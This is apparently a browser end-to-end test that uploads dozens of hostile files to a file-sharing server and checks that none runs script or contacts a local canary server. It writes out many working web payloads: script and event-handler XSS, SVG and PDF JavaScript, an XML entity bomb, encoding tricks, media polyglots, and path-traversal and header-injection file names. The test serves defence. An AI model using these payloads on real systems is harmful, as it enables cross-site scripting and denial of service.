/**
 * Files of people who mean harm, opened by their address in a browser: nothing in them runs, and nothing is fetched.
 *
 * `server/tests/api/hostile_files.rs` has the headers of such files; here a browser judges them.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Page } from "@playwright/test";

import { png, wav } from "../media.ts";
import { expect, test, together } from "../people.ts";

interface Hostile {
    name: string;
    content: Buffer;
    /** The media type that the sender declares. */
    declared: string;
}

/** Returns scripts and requests in all forms that are active somewhere. `canary` is an address that must not be asked. */
function hostile(canary: string): Hostile[] {
    const all: Hostile[] = [];
    const add = (name: string, content: string | Buffer, declared = "image/png") =>
        all.push({ name, content: Buffer.from(content), declared });
    const script = `<script>alert(1);fetch("${canary}/script")</script>`;
    const pages: [string, string][] = [
        ["doctype", `<!doctype html>${script}`],
        ["html", `<html><body onload='alert(1);new Image().src="${canary}/load"'>hello`],
        ["bom", `\ufeff<html>${script}`],
        ["comment", `<!-- x --><script src="${canary}/src.js"></script>`],
        ["space", `${" ".repeat(600)}<html>${script}`],
        ["image", `<img src="${canary}/img" onerror="alert(1)">`],
        ["style", `<style>@import "${canary}/style.css"; body{background:url(${canary}/bg)}</style>`],
        ["frame", `<iframe src="javascript:alert(1)"></iframe><iframe src="${canary}/frame"></iframe>`],
        ["refresh", `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`],
        ["form", `<form action="${canary}/form"><input autofocus onfocus="this.form.submit()"></form>`],
        ["base", `<base href="${canary}/"><script src="base.js"></script>`],
        ["object", `<object data="${canary}/object"></object><embed src="${canary}/embed">`],
        ["link", `<link rel="stylesheet" href="${canary}/link.css"><link rel="prefetch" href="${canary}/prefetch">`],
        ["template", `<details open ontoggle="alert(1)"><video><source onerror="alert(1)"></video>`],
        ["module", `<script type="module">import "${canary}/module.js"; alert(1)</script>`],
    ];
    for (const [kind, page] of pages) {
        add(`${kind}.html`, page, "text/html");
        add(`${kind}.png`, page, "image/png");
    }
    const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
    const drawings: [string, string][] = [
        ["script", `<svg ${svg}><script>alert(1);fetch("${canary}/svg")</script></svg>`],
        ["onload", `<svg ${svg} onload='alert(1);fetch("${canary}/svg")'/>`],
        ["declared", `<?xml version="1.0"?><svg ${svg}><script>alert(1)</script></svg>`],
        ["foreign", `<svg ${svg}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject></svg>`],
        ["image", `<svg ${svg}><image xlink:href="${canary}/svg-image"/><use xlink:href="${canary}/use#a"/></svg>`],
        ["animate", `<svg ${svg}><a><animate attributeName="href" to="javascript:alert(1)"/></a><set onbegin="alert(1)" attributeName="x"/></svg>`],
        ["entity", `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]><svg ${svg}>&x;<script>alert(1)</script></svg>`],
        ["style", `<?xml-stylesheet href="${canary}/sheet.css"?><svg ${svg}><style>@import "${canary}/in.css"</style></svg>`],
    ];
    for (const [kind, drawing] of drawings) {
        add(`${kind}.svg`, drawing, "image/svg+xml");
        add(`${kind}.jpg`, drawing, "image/jpeg");
    }
    add("page.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>alert(1)</script></head></html>`, "application/xhtml+xml");
    add("feed.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?><rss/>`, "text/xml");
    add("inline.xsl", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>`, "application/xml");
    add("bomb.xml", `<!DOCTYPE a [${[..."abcdefgh"].map((c, n) => `<!ENTITY ${c} "${n ? `&${"abcdefgh"[n - 1]};`.repeat(10) : "lol"}">`).join("")}]><a>&h;</a>`, "application/xml");
    add("math.xml", `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction href="javascript:alert(1)">x</maction></math>`, "application/mathml+xml");
    add("archive.mht", `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--`, "message/rfc822");
    add("archive.mhtml", `From: <x>\r\nContent-Type: text/html\r\n\r\n${script}`, "application/x-mimearchive");
    add("mail.eml", `Content-Type: text/html\r\n\r\n${script}`, "message/rfc822");
    add("report.pdf", `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${canary}/pdf"\\))>>>>endobj\ntrailer<</Root 1 0 R>>`, "application/pdf");
    add("report.png", `%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(${canary}/pdf-uri)>>>>endobj`, "image/png");
    add("worker.js", `self.onfetch = () => {}; fetch("${canary}/js"); alert(1)`, "text/javascript");
    add("picture.png", `fetch("${canary}/js"); alert(1)`, "image/png");
    add("module.mjs", `import "${canary}/mjs.js"; alert(1)`, "application/javascript");
    add("data.json", `{"x": "${script}"}`, "application/json");
    add("style.css", `@import "${canary}/import.css"; *{background:url(${canary}/css)}`, "text/css");
    add("code.wasm", Buffer.from("0061736d0100000001040160000003020100080100" + "0a040102000b", "hex"), "application/wasm");
    add("start.wasm", Buffer.from("0061736d01000000", "hex"), "text/html");
    add("applet.swf", `FWS\x09${script}`, "application/x-shockwave-flash");
    add("list.m3u8", `#EXTM3U\n#EXTINF:1,\n${canary}/segment.ts`, "application/vnd.apple.mpegurl");
    add("app.webmanifest", `{"start_url": "${canary}/start"}`, "application/manifest+json");
    add("cache.manifest", `CACHE MANIFEST\n${canary}/cache`, "text/cache-manifest");
    add("link.url", `[InternetShortcut]\nURL=${canary}/shortcut`, "application/internet-shortcut");
    add("macro.hta", `<hta:application/><script>alert(1)</script>`, "application/hta");
    add("utf7.html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7");
    add("utf16.html", Buffer.from(`\ufeff<script>alert(1)</script>`, "utf16le"), "text/html; charset=utf-16");
    add("iso2022.html", `\x1b$B<script>alert(1)</script>`, "text/html; charset=iso-2022-jp");
    add("push.png", `--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--`, "multipart_x-mixed-replace; boundary=b");
    // Pictures, audio and video that are pages, too.
    add("polyglot.png", Buffer.concat([png(8, 8), Buffer.from(script)]), "text/html");
    add("polyglot.html", Buffer.concat([png(8, 8), Buffer.from(`<html>${script}`)]), "text/html");
    add("polyglot.gif", `GIF89a/*${script}*/=1;alert(1)//`, "image/gif");
    add("polyglot.jpg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe]), Buffer.from(script)]), "image/jpeg");
    add("polyglot.webp", `RIFF\x24\0\0\0WEBPVP8 ${script}`, "image/webp");
    add("polyglot.wav", Buffer.concat([wav(), Buffer.from(script)]), "text/html");
    add("polyglot.mp3", Buffer.concat([Buffer.from("ID3\x04\0\0\0\0\0\0"), Buffer.from(script)]), "text/html");
    add("polyglot.ogg", Buffer.concat([Buffer.from("OggS\0"), Buffer.from(script)]), "text/html");
    add("polyglot.mp4", Buffer.concat([Buffer.from("\0\0\0\x14ftypisom\0\0\0\0", "latin1"), Buffer.from(script)]), "text/html");
    add("polyglot.webm", Buffer.concat([Buffer.from("1a45dfa3", "hex"), Buffer.from(`webm${script}`)]), "text/html");
    add("polyglot.flac", Buffer.concat([Buffer.from("fLaC"), Buffer.from(script)]), "text/html");
    add("polyglot.zip", Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.from(script)]), "text/html");
    add("polyglot.js", Buffer.concat([Buffer.from("GIF89a=1;alert(1);//"), png(8, 8)]), "image/gif");
    // Names that deceive.
    const names = [
        "..\\..\\evil.html", "../../evil.html", "/etc/passwd.html", "evil\u202egnp.html", "evil.html\0.png", "evil.html%00.png",
        "a\r\nContent-Type: text/html\r\n\r\n.html", '"; filename=evil.html', "evil.html;.png", "CON.html", ".html", "evil.html ",
        "<script>alert(1)</script>.html", "evil.ｈｔｍｌ", "e\u0301vil\u200b.html", "evil.html#.png", "evil.html?.png", "javascript:alert(1).html",
    ];
    for (const name of names) add(name, `<!doctype html>${script}`, "text/html");
    return all;
}

/** Opens an address, and tells whether the browser shows it or saves it. */
async function open(page: Page, address: string): Promise<"shown" | "saved"> {
    const saved = page.waitForEvent("download").then((download) => download.cancel().then(() => "saved" as const));
    const shown = page.goto(address, { waitUntil: "load" }).then(
        () => "shown" as const,
        // The browser ends the navigation if it saves the answer.
        (error: Error) => (error.message.includes("Download is starting") || error.message.includes("ERR_ABORTED") ? saved : Promise.reject(error)),
    );
    const outcome = await Promise.race([shown, saved]);
    saved.catch(() => undefined);
    return outcome;
}

test("nothing runs in a hostile file that is opened by its address", async ({ server, ann, ben }) => {
    test.setTimeout(180_000);
    const asked: string[] = [];
    const canary = createServer((request, answer) => {
        // The browser asks for the icon of the canary's own page by itself, now or later.
        if (request.url !== "/favicon.ico") asked.push(request.url ?? "");
        // A page that is active where it may be.
        const isPage = request.url === "/page";
        answer.writeHead(200, { "content-type": isPage ? "text/html" : "text/plain", "access-control-allow-origin": "*" });
        answer.end(isPage ? `<!doctype html><script>alert(1);fetch("/script")</script>` : "");
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    const address = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    await together("Tea", ann, ben);
    const dialogs: string[] = [];
    const page = await ann.context.newPage();
    page.on("dialog", (dialog) => {
        dialogs.push(page.url());
        void dialog.dismiss();
    });
    // The trap works: where a page is served as one, its script runs and asks the canary.
    await page.goto(`${address}/page`);
    await expect.poll(() => [dialogs.length, asked.includes("/script")]).toEqual([1, true]);
    dialogs.length = 0;
    asked.length = 0;

    const files = hostile(address);
    expect(files.length).toBeGreaterThanOrEqual(60);
    const fates = { shown: 0, saved: 0, refused: 0 };
    for (const { name, content, declared } of files) {
        const url = `${server.url}/files?name=${encodeURIComponent(name)}`;
        const upload = () => ann.context.request.post(url, { data: content, headers: { "content-type": declared } });
        let answer = await upload();
        // So many files at once are too many for one person.
        await expect(async () => {
            if (answer.status() === 429) answer = await upload();
            expect(answer.status()).not.toBe(429);
        }).toPass();
        if (answer.status() !== 201) {
            expect([422], `${name}: ${await answer.text()}`).toContain(answer.status());
            fates.refused += 1;
            continue;
        }
        const { id, name: kept } = (await answer.json()) as { id: string; name: string };
        expect(kept, name).not.toMatch(/[\\/\0\r\n\u202e]/);
        fates[await open(page, `${server.url}/files/${id}`)] += 1;
    }
    console.log(`hostile files: ${files.length}, of them ${JSON.stringify(fates)}`);
    expect(fates.saved + fates.shown).toBeGreaterThan(50);
    expect(dialogs).toEqual([]);
    expect(asked).toEqual([]);
    await page.close();
    canary.close();
});
